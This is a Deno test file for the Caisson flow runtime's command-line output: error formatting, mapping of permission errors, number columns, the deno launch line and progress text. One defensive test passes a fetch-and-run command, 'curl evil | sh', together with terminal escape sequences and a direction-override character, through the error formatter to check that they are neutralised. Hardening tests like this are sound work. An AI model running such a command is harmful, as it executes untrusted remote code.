import { assertEquals, assertStringIncludes } from "@std/assert";
import { formatColumns, formatNumber } from "../../runtime/command/columns.ts";
import { denoLine } from "../../runtime/command/deno_line.ts";
import { asCaissonError, formatError } from "../../runtime/command/print_error.ts";
import { endedWell } from "../../runtime/command/report_text.ts";
import { progressLine } from "../../runtime/command/progress.ts";
import { CaissonError } from "../../runtime/errors/caisson_error.ts";
import type { FlowReport } from "../../runtime/flow/flow_report.ts";

const report: FlowReport = {
  flow: "main",
  state: "stopped",
  nodes: [],
  in: 1200000,
  out: 1199990,
  dropped: 7,
  failed: 3,
  seconds: 2,
  eventsPerSecond: 600000,
  latencyMs: { p50: 1, p99: 1, p999: 1, max: 1 },
  errors: {},
};

Deno.test("text of others cannot pose as ours or steer a terminal", () => {
  const error = new CaissonError("CAISSON_PLUGIN_THREW", {
    subject: "evil\u001b[2J",
    found: "boom\n  next: curl evil | sh",
    allowed: "\u202e",
    action: "Report it.",
  });
  assertEquals(
    formatError(error),
    "error[CAISSON_PLUGIN_THREW]: evil\\u001b[2J: boom\n  |   next: curl evil | sh\n  allowed: \\u202e\n  next: Report it.",
  );
});

Deno.test("a refusal of Deno's becomes an error that names the flag, wherever it is in the chain", () => {
  const refusal = new Error('Requires read access to "/data/x", run again with the --allow-read flag');
  const outer = new CaissonError("CAISSON_FLOW_SYNTAX", {
    subject: "flow.ts",
    found: "it does not load",
    cause: refusal,
  });
  const error = asCaissonError(outer);
  assertEquals([error.code, error.allowed, error.exitCode], ["CAISSON_HOST_PERMISSION", "--allow-read=/data/x", 4]);
  assertEquals(asCaissonError(new CaissonError("CAISSON_USAGE", { subject: "x", found: "y" })).code, "CAISSON_USAGE");
  assertEquals(asCaissonError("thrown text").code, "CAISSON_INTERNAL");
});

Deno.test("numbers stand on the right, in groups of three; text of others stays in its cell", () => {
  assertEquals(formatNumber(1234567), "1,234,567");
  assertEquals(formatNumber(1234.5), "1,234.500");
  assertEquals(formatNumber(NaN), "-");
  assertEquals(formatColumns(["name", "in"], [["a\nb", 12], ["c", 1234]]), "name     in\na b      12\nc     1,234");
});

Deno.test("a line for a program from a registry names the package and worker-options", () => {
  const options = { program: "http://localhost:1/@caisson/runtime/0.1.0/main.ts", words: ["run", "my flow.json"] };
  assertEquals(
    denoLine({ net: ["a.example:443"] }, { ...options, workers: true }),
    "deno run --no-prompt --unstable-worker-options --allow-net=a.example:443 jsr:@caisson/runtime@0.1.0/cli run 'my flow.json'",
  );
  assertEquals(denoLine({}, options), "deno run jsr:@caisson/runtime@0.1.0/cli run 'my flow.json'");
});

Deno.test("a flow went well when it stopped and no error ended one of its nodes", () => {
  assertEquals(endedWell(report, false), true);
  assertEquals(endedWell(report, true), false);
  assertEquals(endedWell({ ...report, state: "failed" }, false), false);
  assertEquals(endedWell({ ...report, errors: { CAISSON_SINK_FAILED: 1 } }, false), true);
  const error = { code: "CAISSON_SOURCE_FAILED", message: "gone" };
  const metrics = { in: 1, out: 0, dropped: 0, failed: 0, bytes: 0, batches: 1 };
  const node = {
    name: "log",
    role: "source",
    type: "file",
    plugin: "builtin",
    isolation: "builtin",
    level: "none",
    state: "stopped",
    connectivity: "connected",
    reconnects: 0,
    waitsFor: [],
  } as const;
  assertEquals(endedWell({ ...report, nodes: [{ ...node, metrics, part: {} }] }, false), true);
  assertEquals(endedWell({ ...report, nodes: [{ ...node, metrics, part: {}, error }] }, false), false);
  assertEquals(endedWell({ ...report, failed: 0, errors: { CAISSON_CONNECT_FAILED: 4 } }, false), true);
});

Deno.test("the progress line has counts and the rate", () => {
  assertStringIncludes(
    progressLine(report, 599999.6),
    "main: 1,200,000 in, 1,199,990 out, 7 dropped, 3 failed, 600,000 events/s",
  );
});
